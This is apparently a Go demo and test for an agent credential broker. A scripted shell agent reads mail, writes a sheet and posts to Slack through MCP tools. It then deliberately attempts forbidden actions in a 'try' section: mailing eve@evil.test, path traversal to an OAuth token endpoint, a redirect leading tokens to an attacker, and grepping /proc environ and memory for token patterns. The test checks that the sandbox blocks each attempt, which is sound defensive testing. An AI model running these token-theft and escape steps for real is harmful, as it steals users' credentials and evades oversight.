package demo

import (
	"context"
	"fmt"
	"strings"

	"hotcell"
	"hotcell/client"
	"hotcell/internal/value/sensitive"
	"hotcell/test/acme/google"
	"hotcell/test/acme/portal"
)

// accounts shows tier 1: a person connects accounts in a browser, and an agent
// works with two tools of each, and then tries what it may not.
func (s *show) accounts(ctx context.Context) error {
	s.title("Connections: mail, a spreadsheet and a chat, and an agent that has no token")
	_, callback, err := s.client.OAuthClients(ctx)
	if err != nil {
		return err
	}
	s.company.Register(callback)
	var ids []hotcell.CredentialID
	for _, service := range []string{"gmail", "google-sheets", "slack"} {
		secret := sensitive.New([]byte(s.company.ClientSecret(service)))
		if err := s.client.SetOAuthClient(ctx, service, "", service+"-client", secret); err != nil {
			return err
		}
		id, err := s.connect(ctx, client.LinkDraft{Connector: service, Name: service})
		if err != nil {
			return err
		}
		ids = append(ids, id)
	}
	remote, err := s.connect(ctx, client.LinkDraft{Connector: "mcp", Name: "remote", Settings: map[string]string{"url": s.company.Base("mcp") + "/mcp"}})
	if err != nil {
		return err
	}
	ids = append(ids, remote)
	sheet := s.company.Google.Create("Invoices", []any{"number", "amount"})
	s.company.Google.Deliver("ada@acme.test", google.Mail{
		From: "Babbage <babbage@acme.test>", To: "ada@acme.test", Subject: "Invoice 42", MessageID: "<m1@acme.test>", Text: "Please pay 480.50", Labels: []string{"INBOX", "UNREAD"},
	})
	made, err := s.client.CreateAssignment(ctx, "books", hotcell.Work{
		Command: agent + strings.ReplaceAll(work, "SHEET", sheet), Environment: map[string]string{"ACCOUNTS": s.company.Base("accounts")},
	})
	if err != nil {
		return err
	}
	for i, n := range []hotcell.Narrowing{
		{Tools: []string{"search", "read"}}, {Tools: []string{"append"}}, {Tools: []string{"post"}, Rules: []hotcell.ToolRule{{When: `args.channel == "#ops"`}}},
		{Tools: []string{"greet", "fail", "lead"}},
	} {
		if _, err := s.client.Attach(ctx, made.ID, ids[i], hotcell.InjectTools, n); err != nil {
			return err
		}
	}
	return s.work(ctx, made.ID, sheet)
}

// work runs the agent, and looks at what came of it.
func (s *show) work(ctx context.Context, id hotcell.AssignmentID, sheet string) error {
	log, j, err := s.runOf(ctx, id)
	if err != nil {
		return err
	}
	meant, tried, _ := strings.Cut(log, "and now what it may not:\n")
	s.quote(meant)
	rows, messages := s.company.Google.Rows(sheet, "Invoices"), s.company.Slack.Messages()
	s.check(j.State == hotcell.JobSucceeded && strings.Contains(log, "Please pay 480.50"), "the agent reads ada's mail ("+string(j.State)+j.Reason+")")
	s.check(len(rows) == 2 && rows[1][0] == "42", "it writes the invoice into the sheet")
	s.check(len(messages) == 1 && messages[0].Channel == "C0000002", "it posts to #ops, and not to #board: the rule on the attachment refuses that")
	s.check(len(s.company.Google.Sent("ada@acme.test")) == 0, "it sends no mail: that tool is not attached")
	s.say("  and then it wants a token:")
	s.tried(tried, tokenTries)
	arrived := s.company.Portal.Arrived(portal.Foreign()...)
	s.clean(fmt.Sprintf("the %d requests that a service led to its attacker", len(arrived)), fmt.Sprint(arrived))
	s.clean("the agent's log", log)
	s.clean("what it wrote", fmt.Sprint(rows, messages))
	return nil
}

// connect connects ada's account of a service, as she does in her browser.
func (s *show) connect(ctx context.Context, draft client.LinkDraft) (hotcell.CredentialID, error) {
	link, err := s.client.CreateLink(ctx, draft)
	if err != nil {
		return "", err
	}
	page, err := s.dance(ctx, link.URL)
	if err != nil {
		return "", err
	}
	now, err := s.client.Link(ctx, link.ID)
	if err != nil {
		return "", err
	}
	made, err := s.client.Connection(ctx, now.Connection)
	if err != nil {
		return "", fmt.Errorf("%s was not connected: %s: %w", draft.Name, now.Reason, err)
	}
	as := ""
	if made.Connected.Account != "" {
		as = " as " + made.Connected.Account
	}
	s.check(strings.Contains(page, "Connected"), "ada opens the link, signs in at the service and allows it: "+draft.Name+" is connected"+as)
	return made.ID, nil
}

// agent is a shell that calls tools by MCP (streamable HTTP), as any agent does.
const agent = `mcp() { curl -sS -H 'Content-Type: application/json' -H 'Accept: application/json, text/event-stream' -H 'Mcp-Protocol-Version: 2025-06-18' "$@" "$HOTCELL_MCP_URL"; }
session=$(mcp -D - -o /dev/null -d '{"jsonrpc":"2.0","id":0,"method":"initialize","params":{"protocolVersion":"2025-06-18","capabilities":{},"clientInfo":{"name":"sh","version":"1"}}}' | tr -d '\r' | sed -n 's/^[Mm]cp-[Ss]ession-[Ii]d: //p')
mcp -H "Mcp-Session-Id: $session" -d '{"jsonrpc":"2.0","method":"notifications/initialized"}'
call() { printf '%s: ' "$1"; mcp -H "Mcp-Session-Id: $session" -d "{\"jsonrpc\":\"2.0\",\"id\":1,\"method\":\"tools/call\",\"params\":{\"name\":\"$1\",\"arguments\":$2}}" | sed -n 's/^data: //p; /^{/p' | sed 's/.*"text":"//; s/"}\],.*//; s/\\\\"/"/g' | cut -c1-400; }
`

// work is what the agent does, and then what it may not. A command is told apart by
// what is printed before it.
const work = `call gmail_search '{"query":"subject:invoice is:unread"}'
call gmail_read '{"id":"18c000001"}'
call google_sheets_append '{"spreadsheet":"SHEET","range":"Invoices!A1:B1","rows":[["42","480.50"]]}'
call slack_post '{"channel":"#ops","text":"invoice 42 is in the books"}'
echo 'and now what it may not:'
try() { printf 'TRIED %s: ' "$1"; mcp -H "Mcp-Session-Id: $session" -d "{\"jsonrpc\":\"2.0\",\"id\":1,\"method\":\"tools/call\",\"params\":{\"name\":\"$2\",\"arguments\":$3}}"; echo; }
try 'a channel that a rule keeps it from' slack_post '{"channel":"#board","text":"not for you"}'
try 'a tool that is not attached' gmail_send '{"to":["eve@evil.test"],"subject":"x","text":"y"}'
try 'a path out of its place, to the endpoint of tokens' gmail_read '{"id":"../../../oauth2/v4/token"}'
try 'a service that repeats the token' remote_greet '{"name":"Ada"}'
try 'an error with the token, raw and encoded' remote_fail '{}'
try 'a redirect that leads the token to an attacker' remote_lead '{}'
try 'an argument that is a stand-in for the token' remote_greet '{"name":"${token}"}'
printf 'TRIED the memory, the environment and the files of its cell: '
grep -rahoE '(ya29|xox|rt_)[A-Za-z0-9_-]{8,}' /proc/*/environ /proc/*/mem /job /tmp 2>/dev/null; echo nothing found
printf 'TRIED the endpoint of tokens, without a client: '
curl -sS -m 5 -d grant_type=refresh_token "$ACCOUNTS/oauth/token" 2>&1; echo
printf 'TRIED the sockets of the server: '
find / -xdev -type s 2>/dev/null | head; echo looked
`

// tokenTries are what work tries, and what it is told.
var tokenTries = []try{
	{"a channel that a rule keeps it from", "refused"}, {"a tool that is not attached", "gmail_send"}, {"a path out of its place, to the endpoint of tokens", "cannot be put into the request"},
	{"a service that repeats the token", "[hotcell:remote]"}, {"an error with the token, raw and encoded", "[hotcell:remote]"}, {"a redirect that leads the token to an attacker", `"isError":true`},
	{"an argument that is a stand-in for the token", "${token}"}, {"the memory, the environment and the files of its cell", "nothing found"},
	{"the endpoint of tokens, without a client", ""}, {"the sockets of the server", "looked"},
}
